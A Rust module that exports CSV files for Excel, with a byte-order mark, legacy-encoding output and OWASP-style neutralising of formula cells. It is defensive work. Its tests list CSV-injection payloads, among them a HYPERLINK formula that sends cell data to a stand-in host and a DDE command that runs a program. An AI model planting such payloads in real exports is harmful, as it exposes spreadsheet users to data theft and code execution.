//! CSV downloads that open correctly in Excel: UTF-8 with a byte-order mark (without it Excel
//! guesses a legacy code page and garbles Hangul and Cyrillic), and no cell that a spreadsheet
//! would run as a formula.
use super::{BackendError, Result};

pub fn with_bom(header: Vec<String>, rows: impl IntoIterator<Item = Vec<String>>) -> Result<Vec<u8>> {
    let mut out = b"\xEF\xBB\xBF".to_vec();
    out.extend(text(b',', header, rows)?.into_bytes());
    Ok(out)
}

/// The CSV text of `rows` under `header`, cells made inert, for files another system loads in
/// its own encoding (see `encode`).
pub fn text(delimiter: u8, header: Vec<String>, rows: impl IntoIterator<Item = Vec<String>>) -> Result<String> {
    let mut out = Vec::new();
    {
        let mut w = csv::WriterBuilder::new().delimiter(delimiter).from_writer(&mut out);
        let fail = |e: csv::Error| BackendError::Internal(format!("csv: {e}"));
        for row in std::iter::once(header).chain(rows) {
            let cells: Vec<_> = row.iter().map(|c| inert(c)).collect();
            w.write_record(cells.iter().map(|c| c.as_bytes())).map_err(fail)?;
        }
        w.flush().map_err(|e| BackendError::Internal(format!("csv: {e}")))?;
    }
    String::from_utf8(out).map_err(|e| BackendError::Internal(format!("csv: {e}")))
}

/// Text in a legacy encoding (CP1251, EUC-KR) for systems that read nothing else; a character
/// the encoding lacks becomes `?` (encoding_rs's own replacement would be an HTML entity).
pub fn encode(text: &str, encoding: &'static encoding_rs::Encoding) -> Vec<u8> {
    use encoding_rs::EncoderResult;
    let mut encoder = encoding.new_encoder();
    let mut out = Vec::with_capacity(text.len());
    let mut rest = text;
    loop {
        let (result, read) = encoder.encode_from_utf8_to_vec_without_replacement(rest, &mut out, true);
        rest = &rest[read..];
        match result {
            EncoderResult::InputEmpty => return out,
            EncoderResult::OutputFull => out.reserve(rest.len() + 16),
            EncoderResult::Unmappable(_) => out.push(b'?'),
        }
    }
}

/// OWASP's rule against CSV injection: a cell starting with `=`, `+`, `-`, `@`, tab or carriage
/// return is prefixed with `'`, which spreadsheets take as "this is text". Plain numbers
/// (`-2.5`) are left alone: they cannot be formulas and must stay numbers.
fn inert(cell: &str) -> std::borrow::Cow<'_, str> {
    let risky = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
    if risky && !is_plain_number(cell) {
        format!("'{cell}").into()
    } else {
        cell.into()
    }
}

fn is_plain_number(cell: &str) -> bool {
    let digits = cell.strip_prefix(['-', '+']).unwrap_or(cell);
    let mut parts = digits.splitn(2, '.');
    let whole = parts.next().unwrap_or_default();
    let fraction = parts.next();
    !whole.is_empty()
        && whole.bytes().all(|b| b.is_ascii_digit())
        && fraction.is_none_or(|f| !f.is_empty() && f.bytes().all(|b| b.is_ascii_digit()))
}

#[cfg(test)]
mod tests {
    #[test]
    fn legacy_encodings_write_what_they_lack_as_a_question_mark() {
        let bytes = super::encode("Иванов 홍", encoding_rs::WINDOWS_1251);
        assert_eq!(encoding_rs::WINDOWS_1251.decode(&bytes).0, "Иванов ?");
        let bytes = super::encode("홍길동 Ж", encoding_rs::EUC_KR);
        assert_eq!(encoding_rs::EUC_KR.decode(&bytes).0, "홍길동 Ж", "EUC-KR has Cyrillic");
        assert_eq!(super::encode("a😀b", encoding_rs::EUC_KR), b"a?b");
    }

    use super::*;

    #[test]
    fn formulas_are_written_as_text() {
        for hostile in
            ["=HYPERLINK(\"http://evil.test/?\"&A1,\"click\")", "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@sum(1+1)", "\t=1", "\r=1"]
        {
            assert_eq!(inert(hostile), format!("'{hostile}"), "{hostile:?}");
        }
        for safe in ["Kim", "김민준", "-2.5", "+3", "12", "a=b", "2026-12-01"] {
            assert_eq!(inert(safe), safe, "{safe:?}");
        }
        assert_eq!(inert("-"), "'-");
        assert_eq!(inert("-1."), "'-1.");
    }

    #[test]
    fn every_cell_of_a_file_is_neutralised() {
        let bytes = with_bom(vec!["=name".into()], vec![vec!["@x".into()], vec!["-7".into()]]).unwrap_or_default();
        let text = String::from_utf8_lossy(&bytes);
        assert_eq!(text.trim_start_matches('\u{feff}'), "'=name\n'@x\n-7\n");
    }
}
